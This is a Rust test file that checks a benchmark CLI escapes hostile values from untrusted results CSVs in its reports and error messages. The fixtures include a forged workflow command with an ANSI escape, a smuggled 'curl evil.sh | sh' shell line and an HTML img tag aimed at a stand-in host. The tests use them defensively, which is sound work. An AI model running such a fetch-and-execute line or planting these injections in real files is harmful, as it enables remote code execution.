//! Results files from elsewhere are data (issue 57): a row whose message, command and cell carry
//! a forged workflow command, an ANSI escape and a second shell line is written into the
//! reports escaped; a cell the reader refuses is quoted escaped and cut short in every command's
//! error, with its physical line number; a FIFO, `-` and an empty merge are clear errors.

use super::common::*;
use std::path::{Path, PathBuf};

const HOSTILE: &str = "x\n::error file=train.py,line=1::FORGED\u{1b}[31m";
const SECOND_LINE: &str = "curl evil.sh | sh";

/// The seed fixture rewritten by Python's csv module: `column` of data row `row` (1-based, or 0
/// for every row) set to `value`.
fn tampered(dir: &Path, name: &str, edits: &[(&str, usize, &str)]) -> PathBuf {
    let fixture = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/seed.csv");
    let out = dir.join(name);
    let edits = serde_json::to_string(edits).unwrap();
    let script = r#"
import csv, json, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='')))
for column, row, value in json.loads(sys.argv[3]):
    for i, r in enumerate(rows, 1):
        if row in (0, i):
            r[column] = value
w = csv.DictWriter(open(sys.argv[2], 'w', newline=''), fieldnames=list(rows[0].keys()), lineterminator='\n')
w.writeheader(); w.writerows(rows)
"#;
    let o = std::process::Command::new("python3")
        .args(["-c", script, fixture, out.to_str().unwrap(), &edits])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    out
}

/// Whether `text` has a raw control character (other than line ends and tabs), a line that
/// starts a workflow command, or the forged second shell line alone.
fn forged(text: &str) -> Option<String> {
    if let Some(c) = text
        .chars()
        .find(|c| c.is_control() && !"\n\r\t".contains(*c))
    {
        return Some(format!("a raw {c:?}"));
    }
    text.lines()
        .find(|l| l.trim_start().starts_with("::") || l.trim() == SECOND_LINE)
        .map(|l| format!("the line {l:?}"))
}

#[test]
fn hostile_fields_are_escaped_in_every_report_format() {
    if !require("python3", || which("python3"), "python3") {
        return;
    }
    let dir = temp_dir("untrusted-report");
    let command = format!("shmbench matrix; {SECOND_LINE}\n{SECOND_LINE}");
    let message = format!("{HOSTILE} <img src=\"https://evil.example/p.png\">");
    let csv = tampered(
        dir.as_ref(),
        "hostile.csv",
        &[("message", 0, &message), ("command", 0, &command)],
    );
    let out = dir.join("report");
    let o = shmbench(&[
        "report",
        csv.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
        "--format",
        "markdown,html",
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    for name in ["report.md", "report.html"] {
        let text = std::fs::read_to_string(out.join(name)).unwrap();
        assert!(
            text.contains("FORGED"),
            "{name} lost the field instead of escaping it"
        );
        assert_eq!(forged(&text), None, "{name}");
        // No HTML of the file's, and its `;` a word of the one command, not a second command.
        assert!(!text.contains("<img"), "{name}");
        assert!(!text.contains("; curl"), "{name}");
    }
}

#[test]
fn a_refused_cell_is_quoted_escaped_with_its_physical_line_by_every_reader() {
    if !require("python3", || which("python3"), "python3") {
        return;
    }
    let dir = temp_dir("untrusted-errors");
    let bad = tampered(dir.as_ref(), "bad.csv", &[("shape", 2, HOSTILE)]);
    let nan = tampered(dir.as_ref(), "nan.csv", &[("img_per_s", 2, "NaN")]);
    let path = |p: &PathBuf| p.to_str().unwrap().to_string();
    let other = dir.join("other");
    let commands: Vec<Vec<String>> = vec![
        vec!["history".into(), path(&bad)],
        vec!["compare".into(), path(&bad), path(&bad)],
        vec![
            "merge".into(),
            path(&bad),
            "--out".into(),
            path(&dir.join("m.csv")),
        ],
        vec!["export".into(), path(&bad)],
        vec!["report".into(), path(&bad), "--out".into(), path(&other)],
        vec!["fleet".into(), path(&bad)],
    ];
    for args in &commands {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let o = shmbench(&args);
        let said =
            String::from_utf8_lossy(&o.stderr).into_owned() + &String::from_utf8_lossy(&o.stdout);
        assert!(!o.status.success(), "{args:?} took the bad row: {said}");
        assert_eq!(forged(&said), None, "{args:?}: {said}");
        // Data row 2 is the file's third line.
        assert!(said.contains("line 3"), "{args:?}: {said}");
    }
    // A number's cell is quoted too (the reader's own error names only the field's index).
    let word = tampered(dir.as_ref(), "word.csv", &[("workers", 2, "abc")]);
    let o = shmbench(&["history", &path(&word)]);
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(
        said.contains("line 3") && said.contains("column workers holds `abc`"),
        "{said}"
    );
    let o = shmbench(&["compare", &path(&nan), &path(&nan)]);
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(said.contains("line 3") && said.contains("NaN"), "{said}");
}

#[test]
fn a_file_cannot_hide_a_crash_step_a_column_or_the_column_it_lacks() {
    if !require("python3", || which("python3"), "python3") {
        return;
    }
    let dir = temp_dir("untrusted-hidden");
    let path = |p: &PathBuf| p.to_str().unwrap().to_string();
    // The largest step a row can say is a step: its crashes against crashes at step 1 differ.
    let far = tampered(
        dir.as_ref(),
        "far.csv",
        &[("crash_step", 5, "18446744073709551615")],
    );
    let near = tampered(dir.as_ref(), "near.csv", &[("crash_step", 5, "1")]);
    let o = shmbench(&["compare", &path(&far), &path(&near), "--format", "json"]);
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(text.contains("18446744073709551615"), "{text}");
    // A column name that is not UTF-8 is refused, not a column silently dropped.
    let bytes = std::fs::read(&near).unwrap();
    let at = bytes.windows(9).position(|w| w == b"img_per_s").unwrap() + 9;
    let mut latin = bytes[..at].to_vec();
    latin.push(0xa0);
    latin.extend_from_slice(&bytes[at..]);
    let latin_path = dir.join("latin.csv");
    std::fs::write(&latin_path, latin).unwrap();
    let o = shmbench(&["compare", &path(&near), &path(&latin_path)]);
    let said = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{said}");
    assert!(
        said.contains("invalid UTF-8 in the name of column"),
        "{said}"
    );
    // A missing column is named by itself, not by the last column's name and cell.
    let lacking = dir.join("lacking.csv");
    let script = r#"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='')))
names = [n for n in rows[0].keys() if n != 'status']
w = csv.DictWriter(open(sys.argv[2], 'w', newline=''), fieldnames=names, extrasaction='ignore', lineterminator='\n')
w.writeheader(); w.writerows(rows)
"#;
    let o = std::process::Command::new("python3")
        .args(["-c", script, &path(&near), &path(&lacking)])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let o = shmbench(&["merge", &path(&lacking), "--out", &path(&dir.join("m.csv"))]);
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(
        said.contains("missing field `status`") && !said.contains("holds `"),
        "{said}"
    );
}

#[test]
fn a_fifo_standard_input_and_an_empty_merge_are_clear_errors() {
    let dir = temp_dir("untrusted-files");
    let fifo = dir.join("fifo.csv");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    // With no writer a FIFO's open would wait forever; the test bounds it.
    let mut child = command()
        .args(["history", fifo.to_str().unwrap()])
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            panic!("history waited on a FIFO with no writer");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let o = shmbench(&["history", "-"]);
    let said = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{said}");
    assert!(said.contains("not standard input"), "{said}");
    let out = dir.join("merged.csv");
    let o = shmbench(&["merge", "/dev/null", "--out", out.to_str().unwrap()]);
    assert_eq!(
        o.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(!out.exists(), "an empty merge wrote {}", out.display());
}
